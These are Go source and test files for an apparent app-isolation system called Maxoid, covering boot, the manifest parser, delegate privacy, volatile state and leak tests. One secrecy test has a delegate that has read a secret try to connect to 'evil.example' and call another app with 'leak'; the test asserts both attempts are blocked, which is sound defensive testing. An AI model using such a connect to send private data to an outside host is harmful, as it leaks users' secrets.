	DBDownloads = "downloads"
	DBMedia     = "media"
)

// System is a booted Maxoid device.
type System struct {
	Disk      *vfs.FS
	Net       *netstack.Network
	Kernel    *kernel.Kernel
	Router    *binder.Router
	Zygote    *zygote.Zygote
	AM        *ams.Manager
	Providers *provider.Registry

	UserDict  *userdict.Provider
	Downloads *downloads.Provider
	Media     *media.Provider

	Clipboard *ams.Clipboard
	Bluetooth *ams.Bluetooth
	Telephony *ams.Telephony

	// Store is the durable WAL+snapshot store, nil on volatile boots.
	Store *wal.Store

	// stopMaint halts the store's maintenance loop, nil when not started.
	stopMaint func()

	// metrics is the boot-time registry, handed to the gateway.
	metrics *metrics.Registry
	// gw is the running remote gateway, nil until StartGateway.
	gw     *gateway.Gateway
	gwHost string
}

// Boot builds a device: global disk, kernel with network, Binder
// router, Zygote, Activity Manager, the three system content providers
// wired onto the COW proxy, and the system services.
func Boot(opts Options) (*System, error) {
	disk := vfs.New()
	net := netstack.New(opts.NetworkBaseRTT, opts.NetworkPerKB)
	kern := kernel.New(net)
	router := binder.NewRouter()
	zyg := zygote.New(disk, kern)

	// Durable boot: open the databases empty, then let WAL recovery
	// replay disk and database state into them BEFORE the device is
	// initialized and the providers lay down their schemas — both of
	// which are idempotent against recovered state (MkdirAll, CREATE
	// ... IF NOT EXISTS). After that the store journals everything.
	udDB, dlDB, mdDB := sqldb.Open(), sqldb.Open(), sqldb.Open()
	var store *wal.Store
	if opts.Storage != nil {
		cfg := wal.Config{
			Storage: opts.Storage,
			FS:      disk,
			DBs: map[string]*sqldb.DB{
				DBUserDict:  udDB,
				DBDownloads: dlDB,
				DBMedia:     mdDB,
			},
			Metrics: opts.Metrics,
		}
		if opts.StoreTuning != nil {
			opts.StoreTuning(&cfg)
		}
		var err error
		store, err = wal.Open(cfg)
		if err != nil {
			return nil, err
		}
	}
	fail := func(err error) (*System, error) {
		if store != nil {
			_ = store.Close()
		}
		return nil, err
	}

	if err := zyg.InitDevice(); err != nil {
		return fail(err)
	}
	for _, h := range opts.TrustedCloudHosts {
		kern.TrustHost(h)
	}
	am := ams.New(kern, zyg, router)
	if store != nil {
		// Degraded write shedding: admission control (when enabled)
		// rejects write-class transactions with the store's typed gate
		// error while the store cannot accept durable writes.
		am.SetStoreGate(store.WriteGate)
	}
	registry := provider.NewRegistry(router)

	ud, err := userdict.NewWithDB(udDB)
	if err != nil {
		return fail(err)
	}
	dl, err := downloads.NewWithDB(dlDB, disk, net)
	if err != nil {
		return fail(err)
	}
	md, err := media.NewWithDB(mdDB, disk)
	if err != nil {
		return fail(err)
	}
	if store != nil {
		// Registration above restored the proxies' table and view
		// catalogs; adoption rebuilds their per-initiator COW machinery
		// maps from the durable _cow_registry.
		for _, p := range []*cowproxy.Proxy{ud.Proxy(), dl.Proxy(), md.Proxy()} {
			if err := p.AdoptRecovered(); err != nil {
				return fail(err)
			}
		}
	}
	registry.Register(ud)
	registry.Register(dl)
	registry.Register(md)

	clipboard := ams.NewClipboard()

	// Everything holding volatile state participates in Clear-Vol.
	am.AddVolatileStore(ud.Proxy())
	am.AddVolatileStore(dl.Proxy())
	am.AddVolatileStore(md.Proxy())
	am.AddVolatileStore(clipboard)

	sys := &System{
		Disk:      disk,
		Net:       net,
		Kernel:    kern,
		Router:    router,
		Zygote:    zyg,
		AM:        am,
		Providers: registry,
		UserDict:  ud,
		Downloads: dl,
		Media:     md,
		Clipboard: clipboard,
		Bluetooth: &ams.Bluetooth{},
		Telephony: &ams.Telephony{},
		Store:     store,
		metrics:   opts.Metrics,
	}
	if store != nil && opts.ScrubInterval > 0 {
		sys.stopMaint = store.StartMaintenance(opts.ScrubInterval)
	}
	return sys, nil
}

// Durable reports whether the system journals state to storage.
func (s *System) Durable() bool { return s.Store != nil }

// Health reports the durable store's position in the health state
// machine. Volatile systems have nothing that can degrade and are
// always Healthy.
func (s *System) Health() health.State {
	if s.Store == nil {
		return health.Healthy
	}
	return s.Store.Health()
}

// Checkpoint compacts the durable state into a fresh snapshot and
// resets the WAL (no-op on volatile systems). Recovery after a crash
// replays snapshot + WAL tail; checkpointing bounds the tail.
func (s *System) Checkpoint() error {
	if s.Store == nil {
		return nil
	}
	return s.Store.Snapshot()
}

// Install installs an app with its manifest (including the Maxoid
// manifest, typically parsed from XML with ParseMaxoidManifest).
// Shutdown stops background work: it joins the download worker pool so
// no provider goroutine outlives the system (tests assert leak-freedom),
// then syncs and closes the durable store, if any.
func (s *System) Shutdown() {
	if s.gw != nil {
		s.gw.Close()
		s.gw = nil
		s.gwHost = ""
	}
	s.Downloads.Close()
	if s.stopMaint != nil {
		s.stopMaint()
		s.stopMaint = nil
	}
	if s.Store != nil {
		_ = s.Store.Close()
	}
}

func (s *System) Install(app ams.App, manifest ams.Manifest) error {
	return s.AM.Install(app, manifest)
}

// Launch starts an app from the launcher, running as itself.
func (s *System) Launch(pkg string, in intent.Intent) (*ams.Context, error) {
	in.Component = pkg
	return s.AM.StartActivity(nil, in)
}

// LaunchAsDelegate starts app as a delegate of initiator via the
// launcher's "Initiator" drop target (§6.3), without the initiator's
// explicit invocation.
func (s *System) LaunchAsDelegate(app, initiator string, in intent.Intent) (*ams.Context, error) {
	return s.AM.StartDelegateFromLauncher(app, initiator, in)
}

// ClearVol discards Vol(A): the launcher's Clear-Vol drop target.
func (s *System) ClearVol(initiator string) error {
	return s.AM.ClearVol(initiator)
}

// ClearPriv discards Priv(x^A) for all x: the launcher's Clear-Priv
// drop target.
func (s *System) ClearPriv(initiator string) error {
	return s.AM.ClearPriv(initiator)
}

// ListVolatileFiles returns the client-visible EXTDIR/tmp paths of all
// files in initiator A's volatile state, sorted — what A (or the user)
// inspects before committing or discarding (§3.3).
func (s *System) ListVolatileFiles(initiator string) ([]string, error) {
	branch := layout.ExtTmpBranch(initiator)
	if !vfs.Exists(s.Disk, vfs.Root, branch) {
		return nil, nil
	}
	var out []string
	err := vfs.Walk(s.Disk, vfs.Root, branch, func(name string, info vfs.FileInfo) error {
		if info.IsDir() || unionfs.IsWhiteout(name) {
			return nil
		}
		rel := name[len(branch):]
		out = append(out, path.Join(layout.ExtTmpDir, rel))
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Strings(out)
	return out, nil
}

// CommitVolatileFile copies one file from Vol(A) to a public location —
// the commit operation of §3.3 ("A can selectively commit the desired
// change by copying it from Vol(A) to a non-volatile place"). volPath is
// the initiator-visible EXTDIR/tmp path; destPath is an EXTDIR path.
func (s *System) CommitVolatileFile(initiator, volPath, destPath string) error {
	rel := volPath
	if len(volPath) >= len(layout.ExtTmpDir) && volPath[:len(layout.ExtTmpDir)] == layout.ExtTmpDir {
		rel = volPath[len(layout.ExtTmpDir):]
	}
	src := path.Join(layout.ExtTmpBranch(initiator), rel)
	dst := layout.PublicBacking(destPath)
	return vfs.CopyFile(s.Disk, s.Disk, vfs.Root, src, dst, 0o666)
}

// VolatileRecords returns initiator A's volatile records in a system
// content provider table, via the provider's tmp-URI path.
func (s *System) VolatileRecords(authority, table, initiator string) (int, error) {
	if _, ok := s.Providers.Provider(authority); !ok {
		return 0, provider.ErrNotFound
	}
	// Count through the provider's volatile URI as the initiator.
	res := provider.NewResolver(s.Router, binder.Caller{Task: kernel.Task{App: initiator}})
	rows, err := res.Query("content://"+authority+"/tmp/"+table, nil, "", "")
	if err != nil {
		return 0, err
	}
	return len(rows.Data), nil
}
