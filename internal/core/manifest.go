package core

import (
	"encoding/xml"
	"fmt"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
)

// The Maxoid manifest is an XML file shipped with an app (§6.1):
//
//	<maxoid>
//	  <private-dir path="Dropbox"/>
//	  <invoker-filters mode="whitelist">
//	    <filter>
//	      <action>android.intent.action.VIEW</action>
//	      <scheme>file</scheme>
//	      <suffix>.pdf</suffix>
//	    </filter>
//	  </invoker-filters>
//	</maxoid>
//
// private-dir declares a private directory on external storage (§4.2);
// invoker-filters declare which outgoing intents invoke delegates
// (§6.1 API 2.2), with mode "whitelist" (matching intents are private)
// or "blacklist" (matching intents are public, everything else
// private).

type xmlManifest struct {
	XMLName     xml.Name         `xml:"maxoid"`
	PrivateDirs []xmlPrivateDir  `xml:"private-dir"`
	Invoker     *xmlInvokerBlock `xml:"invoker-filters"`
}

type xmlPrivateDir struct {
	Path string `xml:"path,attr"`
}

type xmlInvokerBlock struct {
	Mode    string      `xml:"mode,attr"`
	Filters []xmlFilter `xml:"filter"`
}

type xmlFilter struct {
	Actions  []string `xml:"action"`
	Schemes  []string `xml:"scheme"`
	Suffixes []string `xml:"suffix"`
}

// ParseMaxoidManifest parses the XML Maxoid manifest.
func ParseMaxoidManifest(data []byte) (ams.MaxoidManifest, error) {
	var parsed xmlManifest
	if err := xml.Unmarshal(data, &parsed); err != nil {
		return ams.MaxoidManifest{}, fmt.Errorf("core: bad maxoid manifest: %w", err)
	}
	out := ams.MaxoidManifest{}
	for _, d := range parsed.PrivateDirs {
		if d.Path == "" {
			return ams.MaxoidManifest{}, fmt.Errorf("core: private-dir with empty path")
		}
		out.PrivateExtDirs = append(out.PrivateExtDirs, d.Path)
	}
	if parsed.Invoker != nil {
		switch parsed.Invoker.Mode {
		case "whitelist":
			out.Invoker.Whitelist = true
		case "blacklist", "":
			out.Invoker.Whitelist = false
		default:
			return ams.MaxoidManifest{}, fmt.Errorf("core: unknown invoker-filters mode %q", parsed.Invoker.Mode)
		}
		for _, f := range parsed.Invoker.Filters {
			out.Invoker.Filters = append(out.Invoker.Filters, intent.Filter{
				Actions:  f.Actions,
				Schemes:  f.Schemes,
				Suffixes: f.Suffixes,
			})
		}
	}
	return out, nil
}
