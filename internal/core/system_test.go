package core

import (
	"errors"
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/layout"
	"maxoid/internal/provider"
	"maxoid/internal/vfs"
)

// scriptApp is a minimal scriptable app for system tests.
type scriptApp struct {
	pkg     string
	onStart func(ctx *ams.Context, in intent.Intent) error
	lastCtx *ams.Context
}

func (a *scriptApp) Package() string { return a.pkg }

func (a *scriptApp) OnStart(ctx *ams.Context, in intent.Intent) error {
	a.lastCtx = ctx
	if a.onStart != nil {
		return a.onStart(ctx, in)
	}
	return nil
}

func (a *scriptApp) OnBroadcast(ctx *ams.Context, in intent.Intent) {
	a.lastCtx = ctx
}

func boot(t *testing.T) *System {
	t.Helper()
	s, err := Boot(Options{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func installScript(t *testing.T, s *System, pkg string, manifest ams.Manifest) *scriptApp {
	t.Helper()
	app := &scriptApp{pkg: pkg}
	manifest.Package = pkg
	if err := s.Install(app, manifest); err != nil {
		t.Fatal(err)
	}
	return app
}

func viewFilter() []intent.Filter {
	return []intent.Filter{{Actions: []string{intent.ActionView}}}
}

// writeAs / readAs are helpers for acting as an instance.
func writeAs(t *testing.T, ctx *ams.Context, path string, data string) {
	t.Helper()
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), path, []byte(data), 0o666); err != nil {
		t.Fatalf("write %s as %s: %v", path, ctx.Task(), err)
	}
}

func readAs(ctx *ams.Context, path string) (string, error) {
	b, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), path)
	return string(b), err
}

func TestBootAndInstall(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "appB", ams.Manifest{Filters: viewFilter()})
	installed := s.AM.Installed()
	if len(installed) != 2 {
		t.Errorf("installed = %v", installed)
	}
	ctx, err := s.Launch("appA", intent.Intent{Action: intent.ActionMain})
	if err != nil {
		t.Fatal(err)
	}
	if ctx.IsDelegate() {
		t.Error("launched app is a delegate")
	}
}

// TestS1SecrecyOfInitiator: only A and delegates of A can observe data
// derived from Priv(A).
func TestS1SecrecyOfInitiator(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "viewer", ams.Manifest{Filters: viewFilter()})
	installScript(t, s, "appX", ams.Manifest{})

	actx, _ := s.Launch("appA", intent.Intent{})
	writeAs(t, actx, actx.DataDir()+"/secret.txt", "priv-A-data")

	// Delegate reads the secret and writes a derived copy everywhere it
	// can: public external storage and the User Dictionary.
	vctx, err := actx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: actx.DataDir() + "/secret.txt", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	secret, err := readAs(vctx, "/data/data/appA/secret.txt")
	if err != nil || secret != "priv-A-data" {
		t.Fatalf("delegate read of Priv(A): %q, %v", secret, err)
	}
	writeAs(t, vctx, layout.ExtDir+"/copied.txt", secret)
	if _, err := vctx.Resolver().Insert("content://user_dictionary/words",
		provider.Values{"word": secret}); err != nil {
		t.Fatal(err)
	}

	// A third app sees neither the file nor the dictionary word.
	xctx, _ := s.Launch("appX", intent.Intent{})
	if _, err := readAs(xctx, layout.ExtDir+"/copied.txt"); err == nil {
		t.Error("S1 violated: derived file visible to appX")
	}
	rows, _ := xctx.Resolver().Query("content://user_dictionary/words", []string{"word"}, "", "")
	for _, row := range rows.Data {
		if row[0] == secret {
			t.Error("S1 violated: derived word visible to appX")
		}
	}
	// The delegate cannot reach the network or unrelated apps either.
	if _, err := vctx.Connect("evil.example"); !errors.Is(err, kernel.ErrNetUnreachable) {
		t.Errorf("delegate network: %v", err)
	}
	if _, err := vctx.CallApp(kernel.Task{App: "appX"}, "leak", nil); !errors.Is(err, kernel.ErrPermissionDenied) {
		t.Errorf("delegate IPC to appX: %v", err)
	}
}

// TestS2IntegrityOfInitiator: delegate updates never overwrite A's data
// in place; A must commit explicitly.
func TestS2IntegrityOfInitiator(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "editor", ams.Manifest{Filters: viewFilter()})
	installScript(t, s, "appX", ams.Manifest{})

	actx, _ := s.Launch("appA", intent.Intent{})
	if err := actx.FS().MkdirAll(actx.Cred(), layout.ExtDir+"/docs", 0o777); err != nil {
		t.Fatal(err)
	}
	writeAs(t, actx, layout.ExtDir+"/docs/report.txt", "v1")

	ectx, _ := actx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: layout.ExtDir + "/docs/report.txt", Flags: intent.FlagDelegate,
	})
	writeAs(t, ectx, layout.ExtDir+"/docs/report.txt", "v2-edited")

	// Original intact for A and everyone else.
	if got, _ := readAs(actx, layout.ExtDir+"/docs/report.txt"); got != "v1" {
		t.Errorf("original overwritten: %q", got)
	}
	// A sees the edit in Vol(A) and can commit it.
	if got, _ := readAs(actx, layout.ExtTmpDir+"/docs/report.txt"); got != "v2-edited" {
		t.Errorf("volatile version: %q", got)
	}
	vols, err := s.ListVolatileFiles("appA")
	if err != nil || len(vols) != 1 || vols[0] != layout.ExtTmpDir+"/docs/report.txt" {
		t.Fatalf("ListVolatileFiles = %v, %v", vols, err)
	}
	if err := s.CommitVolatileFile("appA", vols[0], layout.ExtDir+"/docs/report.txt"); err != nil {
		t.Fatal(err)
	}
	if got, _ := readAs(actx, layout.ExtDir+"/docs/report.txt"); got != "v2-edited" {
		t.Errorf("commit did not apply: %q", got)
	}
	// And the remaining volatile state can be discarded wholesale.
	if err := s.ClearVol("appA"); err != nil {
		t.Fatal(err)
	}
	if vols, _ := s.ListVolatileFiles("appA"); len(vols) != 0 {
		t.Errorf("volatile files after clear: %v", vols)
	}
}

// TestS3S4DelegatePrivacy: A cannot read or write Priv(B^A); B's own
// private state is untouched by delegate runs.
func TestS3S4DelegatePrivacy(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "appB", ams.Manifest{Filters: viewFilter()})

	// B (normal) has private state.
	bctx, _ := s.Launch("appB", intent.Intent{})
	writeAs(t, bctx, "/data/data/appB/settings", "b-settings")
	before, err := vfs.Tree(s.Disk, vfs.Root, layout.BackAppData("appB"))
	if err != nil {
		t.Fatal(err)
	}

	actx, _ := s.Launch("appA", intent.Intent{})
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	writeAs(t, dctx, "/data/data/appB/settings", "tampered")
	writeAs(t, dctx, "/data/data/appB/delegate-only", "d")

	// S4: B's backing private state is bit-identical.
	after, err := vfs.Tree(s.Disk, vfs.Root, layout.BackAppData("appB"))
	if err != nil {
		t.Fatal(err)
	}
	if len(before) != len(after) {
		t.Fatalf("B private file set changed: %v vs %v", before, after)
	}
	for name, data := range before {
		if string(after[name]) != string(data) {
			t.Errorf("B private file %s changed", name)
		}
	}
	// S3: A cannot read Priv(B^A) — the delegate branch is root-only
	// and not mounted anywhere in A's namespace.
	if _, err := readAs(actx, "/data/data/appB/delegate-only"); err == nil {
		t.Error("A read Priv(B^A) through its namespace")
	}
	branchPath := layout.BackNPrivBranch("appB", "appA") + "/delegate-only"
	if _, err := vfs.ReadFile(s.Disk, actx.Cred(), branchPath); err == nil {
		t.Error("A read the delegate branch directly")
	}
}

// TestU1U2U3Views: initial state availability, update visibility, and
// transparency.
func TestU1U2U3Views(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "appB", ams.Manifest{Filters: viewFilter()})
	installScript(t, s, "appC", ams.Manifest{
		Filters: []intent.Filter{{Actions: []string{intent.ActionEdit}}},
	})

	// Public and private state exist before the delegate starts.
	bctx, _ := s.Launch("appB", intent.Intent{})
	writeAs(t, bctx, "/data/data/appB/prefs", "user-prefs")
	writeAs(t, bctx, layout.ExtDir+"/shared.txt", "pub-1")
	s.AM.StopInstance("appB", "")

	actx, _ := s.Launch("appA", intent.Intent{})
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})

	// U1: delegate sees prior public data and its own private data.
	if got, _ := readAs(dctx, layout.ExtDir+"/shared.txt"); got != "pub-1" {
		t.Errorf("U1 public: %q", got)
	}
	if got, _ := readAs(dctx, "/data/data/appB/prefs"); got != "user-prefs" {
		t.Errorf("U1 private: %q", got)
	}

	// U2 (first half): initiator updates remain visible to the delegate
	// until per-name COW triggers.
	writeAs(t, actx, layout.ExtDir+"/shared.txt", "pub-2")
	if got, _ := readAs(dctx, layout.ExtDir+"/shared.txt"); got != "pub-2" {
		t.Errorf("U2 initiator update: %q", got)
	}

	// U3: delegate writes with normal paths and reads its writes.
	writeAs(t, dctx, layout.ExtDir+"/shared.txt", "delegate-version")
	if got, _ := readAs(dctx, layout.ExtDir+"/shared.txt"); got != "delegate-version" {
		t.Errorf("U3 read-your-writes: %q", got)
	}
	// After COW, initiator updates to that name are no longer visible.
	writeAs(t, actx, layout.ExtDir+"/shared.txt", "pub-3")
	if got, _ := readAs(dctx, layout.ExtDir+"/shared.txt"); got != "delegate-version" {
		t.Errorf("per-name COW: %q", got)
	}

	// U2 (second half): another delegate of A sees the first delegate's
	// update.
	cctx, err := dctx.StartActivity(intent.Intent{Action: intent.ActionEdit, Data: "/x"})
	if err != nil {
		t.Fatal(err)
	}
	if cctx.Initiator() != "appA" {
		t.Fatalf("transitivity: %v", cctx.Task())
	}
	if got, _ := readAs(cctx, layout.ExtDir+"/shared.txt"); got != "delegate-version" {
		t.Errorf("U2 sibling delegate: %q", got)
	}
}

// TestFigure1Flows encodes Figure 1's visibility matrix over the four
// state boxes: Priv(A), Priv(B^A), Vol(A), Pub(all).
func TestFigure1Flows(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "appB", ams.Manifest{Filters: viewFilter()})
	installScript(t, s, "appX", ams.Manifest{})

	actx, _ := s.Launch("appA", intent.Intent{})
	writeAs(t, actx, "/data/data/appA/priv-a", "PRIV_A")
	writeAs(t, actx, layout.ExtDir+"/pub-all", "PUB")
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	writeAs(t, dctx, "/data/data/appB/priv-ba", "PRIV_BA")
	writeAs(t, dctx, layout.ExtDir+"/vol-a", "VOL_A")
	xctx, _ := s.Launch("appX", intent.Intent{})

	read := func(ctx *ams.Context, p string) bool {
		_, err := readAs(ctx, p)
		return err == nil
	}
	cases := []struct {
		name string
		path string
		a    bool // visible to A (possibly under the tmp name)
		ba   bool // visible to B^A
		x    bool // visible to X
	}{
		{"Priv(A)", "/data/data/appA/priv-a", true, true, false},
		{"Priv(B^A)", "/data/data/appB/priv-ba", false, true, false},
		{"Pub(all)", layout.ExtDir + "/pub-all", true, true, true},
	}
	for _, tc := range cases {
		if got := read(actx, tc.path); got != tc.a {
			t.Errorf("%s visible to A = %v, want %v", tc.name, got, tc.a)
		}
		if got := read(dctx, tc.path); got != tc.ba {
			t.Errorf("%s visible to B^A = %v, want %v", tc.name, got, tc.ba)
		}
		if got := read(xctx, tc.path); got != tc.x {
			t.Errorf("%s visible to X = %v, want %v", tc.name, got, tc.x)
		}
	}
	// Vol(A): A sees it under tmp, B^A under the original name, X not
	// at all.
	if !read(actx, layout.ExtTmpDir+"/vol-a") {
		t.Error("Vol(A) not visible to A under tmp")
	}
	if !read(dctx, layout.ExtDir+"/vol-a") {
		t.Error("Vol(A) not visible to B^A")
	}
	if read(xctx, layout.ExtDir+"/vol-a") || read(xctx, layout.ExtTmpDir+"/vol-a") {
		t.Error("Vol(A) visible to X")
	}
}

// TestFigure2StateEvolution reproduces the nPriv/pPriv timeline of
// Figure 2: nPriv is re-forked when B's private state diverges, pPriv
// persists per initiator.
func TestFigure2StateEvolution(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "appC", ams.Manifest{})
	installScript(t, s, "appB", ams.Manifest{Filters: viewFilter()})

	start := func(initiator string) *ams.Context {
		ctx, err := s.LaunchAsDelegate("appB", initiator, intent.Intent{Action: intent.ActionView})
		if err != nil {
			t.Fatal(err)
		}
		return ctx
	}

	// B runs normally: nPriv version 1.
	bctx, _ := s.Launch("appB", intent.Intent{})
	writeAs(t, bctx, "/data/data/appB/npriv", "1")
	s.AM.StopInstance("appB", "")

	// B^A runs: sees 1, writes 2 to nPriv(B^A) and a1 to pPriv(B^A).
	ba := start("appA")
	if got, _ := readAs(ba, "/data/data/appB/npriv"); got != "1" {
		t.Fatalf("fork: %q", got)
	}
	writeAs(t, ba, "/data/data/appB/npriv", "2")
	writeAs(t, ba, ba.PPrivDir()+"/recent", "a1")
	s.AM.StopInstance("appB", "appA")

	// Consecutive delegate run for the same initiator: nPriv(B^A) kept.
	ba = start("appA")
	if got, _ := readAs(ba, "/data/data/appB/npriv"); got != "2" {
		t.Errorf("consecutive delegate run lost nPriv: %q", got)
	}
	s.AM.StopInstance("appB", "appA")

	// B runs normally and updates its private state: divergence.
	bctx, _ = s.Launch("appB", intent.Intent{})
	writeAs(t, bctx, "/data/data/appB/npriv", "3")
	s.AM.StopInstance("appB", "")

	// B^A runs again: nPriv re-forked from version 3 (the "2" write is
	// discarded), but pPriv(B^A) survives.
	ba = start("appA")
	if got, _ := readAs(ba, "/data/data/appB/npriv"); got != "3" {
		t.Errorf("re-fork after divergence: %q, want 3", got)
	}
	if got, _ := readAs(ba, ba.PPrivDir()+"/recent"); got != "a1" {
		t.Errorf("pPriv lost: %q", got)
	}
	s.AM.StopInstance("appB", "appA")

	// B^C has an independent pPriv.
	bc := start("appC")
	if _, err := readAs(bc, bc.PPrivDir()+"/recent"); err == nil {
		t.Error("pPriv leaked across initiators")
	}
}

func TestMaxoidManifestXML(t *testing.T) {
	data := []byte(`<maxoid>
		<private-dir path="Dropbox"/>
		<private-dir path="Dropbox/.cache"/>
		<invoker-filters mode="whitelist">
			<filter>
				<action>android.intent.action.VIEW</action>
				<suffix>.pdf</suffix>
				<suffix>.doc</suffix>
			</filter>
			<filter>
				<action>android.intent.action.EDIT</action>
			</filter>
		</invoker-filters>
	</maxoid>`)
	m, err := ParseMaxoidManifest(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.PrivateExtDirs) != 2 || m.PrivateExtDirs[0] != "Dropbox" {
		t.Errorf("private dirs: %v", m.PrivateExtDirs)
	}
	if !m.Invoker.Whitelist || len(m.Invoker.Filters) != 2 {
		t.Errorf("invoker: %+v", m.Invoker)
	}
	if !m.Invoker.Private(intent.Intent{Action: intent.ActionView, Data: "/f.pdf"}) {
		t.Error("VIEW .pdf should be private")
	}
	if m.Invoker.Private(intent.Intent{Action: intent.ActionView, Data: "/f.mp3"}) {
		t.Error("VIEW .mp3 should be public")
	}

	if _, err := ParseMaxoidManifest([]byte("<maxoid><private-dir/></maxoid>")); err == nil {
		t.Error("empty path should fail")
	}
	if _, err := ParseMaxoidManifest([]byte(`<maxoid><invoker-filters mode="bogus"/></maxoid>`)); err == nil {
		t.Error("bad mode should fail")
	}
	if _, err := ParseMaxoidManifest([]byte("not xml")); err == nil {
		t.Error("malformed xml should fail")
	}
}

func TestVolatileRecordsHelper(t *testing.T) {
	s := boot(t)
	installScript(t, s, "appA", ams.Manifest{})
	installScript(t, s, "viewer", ams.Manifest{Filters: viewFilter()})
	actx, _ := s.Launch("appA", intent.Intent{})
	dctx, _ := actx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if _, err := dctx.Resolver().Insert("content://user_dictionary/words", provider.Values{"word": "w"}); err != nil {
		t.Fatal(err)
	}
	n, err := s.VolatileRecords("user_dictionary", "words", "appA")
	if err != nil || n != 1 {
		t.Errorf("VolatileRecords = %d, %v", n, err)
	}
	if err := s.ClearVol("appA"); err != nil {
		t.Fatal(err)
	}
	n, _ = s.VolatileRecords("user_dictionary", "words", "appA")
	if n != 0 {
		t.Errorf("after ClearVol: %d", n)
	}
}
