package core

import (
	"fmt"
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/mount"
	"maxoid/internal/provider"
	"maxoid/internal/testutil"
	"maxoid/internal/unionfs"
)

// TestFullStackLifecycleChurn drives fork → use → kill cycles through
// the whole stack — AMS launch, delegate provider writes through the
// COW proxy, then death — and asserts every layer's leak counter
// (processes, namespaces, unions, branches, endpoints, instances,
// proxy deltas/views) returns to baseline once each domain exits.
func TestFullStackLifecycleChurn(t *testing.T) {
	leak := testutil.LeakCheck(t)
	s := boot(t)
	s.AM.SetReclaimDomainOnExit(true)
	installScript(t, s, "viewer", ams.Manifest{Filters: viewFilter()})
	installScript(t, s, "owner", ams.Manifest{})

	baseNS := mount.Live()
	baseUnions := unionfs.Live()
	baseBranches := unionfs.LiveBranches()
	baseEndpoints := s.Router.NumEndpoints()
	baseProcs := s.Kernel.LiveProcesses()

	for i := 0; i < 100; i++ {
		actx, err := s.Launch("owner", intent.Intent{})
		if err != nil {
			t.Fatalf("iter %d launch: %v", i, err)
		}
		seed := actx.DataDir() + "/seed.txt"
		writeAs(t, actx, seed, "seed")
		vctx, err := actx.StartActivity(intent.Intent{
			Action: intent.ActionView, Data: seed, Flags: intent.FlagDelegate,
		})
		if err != nil {
			t.Fatalf("iter %d delegate: %v", i, err)
		}
		// Delegate writes through its view and the COW proxy, creating
		// delta machinery for the owner domain.
		writeAs(t, vctx, vctx.DataDir()+"/note.txt", fmt.Sprintf("n%d", i))
		if _, err := vctx.Resolver().Insert("content://user_dictionary/words",
			provider.Values{"word": fmt.Sprintf("w%d", i)}); err != nil {
			t.Fatalf("iter %d insert: %v", i, err)
		}
		if st := s.UserDict.Proxy().Stats(); st.DeltaTables == 0 {
			t.Fatalf("iter %d: insert created no delta", i)
		}

		// Kill the whole domain; the reaper must reclaim everything.
		if err := s.Kernel.Kill(vctx.PID()); err != nil {
			t.Fatalf("iter %d kill delegate: %v", i, err)
		}
		if err := s.Kernel.Kill(actx.PID()); err != nil {
			t.Fatalf("iter %d kill owner: %v", i, err)
		}

		if got := s.Kernel.LiveProcesses(); got != baseProcs {
			t.Fatalf("iter %d: %d processes, want %d", i, got, baseProcs)
		}
		if got := mount.Live(); got != baseNS {
			t.Fatalf("iter %d: %d namespaces, want %d", i, got, baseNS)
		}
		if got := unionfs.Live(); got != baseUnions {
			t.Fatalf("iter %d: %d unions, want %d", i, got, baseUnions)
		}
		if got := unionfs.LiveBranches(); got != baseBranches {
			t.Fatalf("iter %d: %d branches, want %d", i, got, baseBranches)
		}
		if got := s.Router.NumEndpoints(); got != baseEndpoints {
			t.Fatalf("iter %d: %d endpoints, want %d", i, got, baseEndpoints)
		}
		if got := s.AM.NumRunning(); got != 0 {
			t.Fatalf("iter %d: %d instances running", i, got)
		}
		if st := s.UserDict.Proxy().Stats(); st.DeltaTables != 0 || st.COWViews != 0 {
			t.Fatalf("iter %d: proxy holds %d deltas, %d views after domain exit",
				i, st.DeltaTables, st.COWViews)
		}
	}
	s.Shutdown()
	leak()
}
