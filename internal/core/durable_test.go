package core

import (
	"testing"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/provider"
	"maxoid/internal/wal"
)

func bootDurable(t *testing.T, st wal.Storage) *System {
	t.Helper()
	s, err := Boot(Options{Storage: st})
	if err != nil {
		t.Fatalf("durable boot: %v", err)
	}
	return s
}

func queryWords(t *testing.T, s *System, pkg string) map[string]bool {
	t.Helper()
	ctx, err := s.Launch(pkg, intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := ctx.Resolver().Query("content://user_dictionary/words", []string{"word"}, "", "")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]bool{}
	for _, row := range rows.Data {
		w, _ := row[0].(string)
		out[w] = true
	}
	return out
}

// TestDurableBootCrashRecovery is the full-stack durability loop: boot
// with storage, mutate disk and provider state (public and volatile),
// checkpoint, mutate more, crash without shutdown, boot again from the
// same storage, and verify every acknowledged change — including the
// per-initiator COW machinery adopted from _cow_registry — survived.
